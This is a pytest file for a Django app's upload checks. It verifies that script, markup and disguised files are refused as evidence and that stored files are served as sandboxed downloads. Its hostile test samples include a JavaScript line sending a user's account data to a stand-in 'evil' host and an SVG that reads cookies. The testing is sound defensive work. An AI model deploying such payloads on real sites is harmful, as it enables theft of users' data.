"""Issue 15 (1): user files never run in the app's origin.

Evidence is accepted only as a photo, a PDF or an Office document judged by its bytes; anything else is
refused (API 400, form error) with nothing stored. Every stored user file is served as an attachment
with nosniff and a sandbox CSP, files stored before the check included.
"""

import datetime
import io
import zipfile
from pathlib import Path

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook
from PIL import Image

from tests.factories import ProgressReportFactory, TargetFactory
from townships.models import ProgressReport

pytestmark = [pytest.mark.django_db]

TODAY = datetime.date.today()
SANDBOX = "sandbox; default-src 'none'"
REFUSED = "不是可接受的文件"


def _media(settings) -> list[Path]:
    root = Path(settings.MEDIA_ROOT)
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def _png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (0, 120, 0)).save(out, format="PNG")
    return out.getvalue()


def _xlsx() -> bytes:
    out = io.BytesIO()
    Workbook().save(out)
    return out.getvalue()


def _zip(content_types: str, extra: dict | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", content_types)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


DOCX_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504

HOSTILE = {
    "x.js": b"fetch('/api/v1/users/me/').then(r => r.text()).then(t => new Image().src = '//evil/?' + t)",
    "x.html": b"<html><script src='/progress-reports/1047/evidence/'></script></html>",
    "x.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(document.cookie)'/>",
    "x.pdf": b"<script>alert(1)</script>",  # a PDF by name only
    "x.jpg": b"<html><body onload=alert(1)>",  # a photo by name only
    "x.docx": _zip("<Types/>", {"index.html": "<script>alert(1)</script>"}),  # a zip, not Office
    "x.msi": OLE,  # an OLE file that is not a Word or Excel document
}
ACCEPTED = {
    "site.png": (_png(), "image/png", ".png"),
    "report.pdf": (
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF",
        "application/pdf",
        ".pdf",
    ),
    "ledger.xlsx": (_xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", ".xlsx"),
    "minutes.docx": (
        _zip(DOCX_TYPES),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ".docx",
    ),
    "old.doc": (OLE, "application/msword", ".doc"),
    "old.xls": (OLE, "application/vnd.ms-excel", ".xls"),
    "photo-named.pdf": (_png(), "image/png", ".png"),  # the content decides the stored extension
}


@pytest.fixture
def target(township):
    return TargetFactory(township=township)


def _post_api(api_as, user, target, name, data, client_type="text/html"):
    return api_as(user).post(
        "/api/v1/progress-reports/",
        {
            "target": target.pk,
            "reported_on": TODAY.isoformat(),
            "cumulative_quantity": "10",
            "evidence": SimpleUploadedFile(name, data, content_type=client_type),
        },
        format="multipart",
    )


@pytest.mark.parametrize("name", HOSTILE)
def test_api_refuses_script_and_markup_as_evidence(api_as, users, target, settings, name):
    response = _post_api(api_as, users["township_staff"], target, name, HOSTILE[name])
    assert response.status_code == 400, response.content
    (message,) = response.json()["evidence"]
    assert REFUSED in message and "PDF" in message
    assert not ProgressReport.objects.filter(target=target).exists()
    assert _media(settings) == []


def test_form_refuses_html_evidence(client_as, users, target, settings):
    response = client_as(users["township_staff"]).post(
        "/progress-reports/new/",
        {
            "target": target.pk,
            "reported_on": TODAY.isoformat(),
            "cumulative_quantity": "10",
            "evidence": SimpleUploadedFile("x.html", HOSTILE["x.html"], content_type="image/png"),
        },
    )
    assert response.status_code == 200
    assert REFUSED in " ".join(response.context["form"].errors["evidence"])
    assert not ProgressReport.objects.exists() and _media(settings) == []


@pytest.mark.parametrize("name", ACCEPTED)
def test_accepted_evidence_is_stored_and_served_as_an_attachment(api_as, client_as, users, target, name):
    data, content_type, extension = ACCEPTED[name]
    response = _post_api(api_as, users["township_staff"], target, name, data, "application/octet-stream")
    assert response.status_code == 201, response.content
    report = ProgressReport.objects.get(pk=response.json()["id"])
    assert report.evidence.name.endswith(extension)
    served = client_as(users["city_office"]).get(f"/progress-reports/{report.pk}/evidence/")
    assert served.status_code == 200
    assert served["Content-Type"] == content_type
    assert served["Content-Disposition"].startswith("attachment;")
    assert served["X-Content-Type-Options"] == "nosniff"
    assert served["Content-Security-Policy"] == SANDBOX
    assert b"".join(served.streaming_content) == data


@pytest.mark.parametrize("name", ["x.html", "x.js", "x.svg"])
def test_files_stored_before_the_check_are_downloads_in_a_sandbox(client_as, users, target, name):
    report = ProgressReportFactory(target=target)
    report.evidence.save(name, ContentFile(HOSTILE[name]))
    served = client_as(users["city_office"]).get(f"/progress-reports/{report.pk}/evidence/")
    assert served.status_code == 200
    assert served["Content-Type"] == "application/octet-stream"  # never text/html, image/svg+xml or script
    assert served["Content-Disposition"].startswith("attachment;")
    assert served["X-Content-Type-Options"] == "nosniff"
    assert served["Content-Security-Policy"] == SANDBOX


def test_photos_original_is_a_download_and_the_apps_copies_show_inline(
    client_as, users, township, django_capture_on_commit_callbacks
):
    from django.core.files.uploadedfile import SimpleUploadedFile as Upload

    from inspections.services.findings import finding_photos_add
    from tests.inspections.conftest import jpeg_bytes
    from tests.inspections.factories import FindingFactory

    finding = FindingFactory(township=township)
    with django_capture_on_commit_callbacks(execute=True):  # the copies' task, eager here
        (photo,) = finding_photos_add(
            finding_id=finding.pk,
            by=users["inspector"],
            files=[Upload('a".jpg', jpeg_bytes(), content_type="image/jpeg")],
            stage="before",
        )
    client = client_as(users["city_office"])
    original = client.get(f"/inspections/photos/{photo.pk}/original/")
    assert original["Content-Disposition"].startswith("attachment;")
    for variant in ("display", "thumb"):
        copy = client.get(f"/inspections/photos/{photo.pk}/{variant}/")
        assert copy["Content-Type"] == "image/jpeg" and copy["Content-Disposition"].startswith("inline;")
    for response in (original, copy):
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Security-Policy"] == SANDBOX
